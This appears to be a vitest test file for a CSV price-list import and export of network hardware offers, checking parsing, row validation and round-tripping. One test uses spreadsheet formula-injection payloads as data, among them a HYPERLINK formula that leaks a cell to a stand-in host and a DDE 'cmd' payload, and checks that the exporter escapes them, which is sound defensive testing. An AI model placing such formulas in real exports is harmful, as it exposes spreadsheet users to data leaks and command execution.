import { describe, expect, it } from 'vitest';
import { defaultCatalog } from '../../src/catalog/default';
import { parseCsv } from '../../src/state/csv';
import { applyPriceList, formatRowProblems, priceListCsv } from '../../src/state/price-list';

describe('CSV price list import', () => {
  it('parses quoted cells, doubled quotes and CRLF', () => {
    expect(parseCsv('a,"b, c","say ""hi"""\r\n1,2,3\r\n')).toEqual([
      ['a', 'b, c', 'say "hi"'],
      ['1', '2', '3'],
    ]);
  });

  it('updates offers by id and adds new ones', () => {
    const csv = [
      'Offer ID,Part,Source,Vendor,Price,Per Meter Price,Stock,Lead Time Weeks,Warranty Years,Notes',
      'QM9700:oem-new,QM9700,oem-new,NVIDIA,"46,500",,,10,3,quote Q-118',
      'QM9700:broker-a,QM9700,oem-refurbished,Broker A,21000,0,24,1,1,',
    ].join('\n');
    const r = applyPriceList(defaultCatalog, csv);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r).toMatchObject({ updated: 1, added: 1 });
    const updated = r.catalog.offers.find((o) => o.id === 'QM9700:oem-new')!;
    expect(updated).toMatchObject({ price: 46500, stock: null, leadTimeWeeks: 10, warrantyYears: 3, notes: 'quote Q-118' });
    expect(r.catalog.offers.find((o) => o.id === 'QM9700:broker-a')!.stock).toBe(24);
    expect(r.catalog.offers).toHaveLength(defaultCatalog.offers.length + 1);
  });

  it('lists every bad row and field and applies nothing', () => {
    const csv = 'id,part,source,vendor,price,stock\nok-1,QM9700,oem-new,X,100,\nbad-1,QM9700,used,X,-3,\nbad-2,QM9700,oem-new,X,ten,1.5\n';
    const r = applyPriceList(defaultCatalog, csv);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(formatRowProblems(r.problems)).toEqual([
      'row 3, source: must be one of "oem-new", "oem-refurbished", "compatible-new", "owned", got "used"',
      'row 3, price: must not be negative, got -3',
      'row 4, price: must be a number, got a string ("ten")',
      // The same wording the CLI prints for a non-integer (src/model/validate.ts).
      'row 4, stock: must be an integer, got 1.5',
    ]);
  });

  it('names the row whose part is not in the catalog', () => {
    const r = applyPriceList(defaultCatalog, 'id,part,source,vendor,price\nx,QM9700,oem-new,X,1\ny,NOPE,oem-new,X,1\n');
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problems).toEqual([{ row: 3, field: 'part', message: 'must name a switch, transceiver or cable in the catalog, got "NOPE"' }]);
  });

  it('rejects unknown and missing columns and duplicate ids', () => {
    const r1 = applyPriceList(defaultCatalog, 'id,part,colour,vendor\n');
    expect(r1.ok).toBe(false);
    if (!r1.ok) expect(formatRowProblems(r1.problems)).toEqual(expect.arrayContaining([
      expect.stringMatching(/^row 1, colour: is not a known column/),
      'row 1, source: column is required',
      'row 1, price: column is required',
    ]));
    const r2 = applyPriceList(defaultCatalog, 'id,part,source,vendor,price\nx,QM9700,oem-new,X,1\nx,QM9700,oem-new,X,2\n');
    expect(r2.ok).toBe(false);
    if (!r2.ok) expect(r2.problems[0]).toEqual({ row: 3, field: 'id', message: 'must be unique, "x" is already on row 2' });
  });

  it('can replace every offer', () => {
    const r = applyPriceList(defaultCatalog, 'id,part,source,vendor,price\nonly,QM9700,oem-new,X,1\n', { replaceOffers: true });
    expect(r.ok && r.catalog.offers.map((o) => o.id)).toEqual(['only']);
  });

  it('exports a vendor or note that starts with = + - @ tab or CR as text a spreadsheet will not evaluate, and reads it back unchanged', () => {
    const payloads = ['=HYPERLINK("http://x.example/?"&A2,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1', '\r=1', "'=already quoted"];
    const catalog = { ...defaultCatalog, offers: defaultCatalog.offers.map((o, i) => ({ ...o, vendor: payloads[i % payloads.length], notes: payloads[(i + 1) % payloads.length] })) };
    const csv = priceListCsv(catalog);
    const rows = parseCsv(csv);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows[1][3]).toBe(`'${payloads[0]}`);
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A2,""Click"")"`);
    expect(rows[1][4]).toMatch(/^\d/); // a price stays a number
    const back = applyPriceList(catalog, csv);
    expect(back.ok).toBe(true);
    if (back.ok) expect(back.catalog.offers).toEqual(catalog.offers);
  });

  it('reads back its own export unchanged', () => {
    const r = applyPriceList(defaultCatalog, priceListCsv(defaultCatalog));
    expect(r.ok).toBe(true);
    if (r.ok) {
      expect(r.catalog.offers).toEqual(defaultCatalog.offers);
      expect(r.updated).toBe(defaultCatalog.offers.length);
    }
  });
});
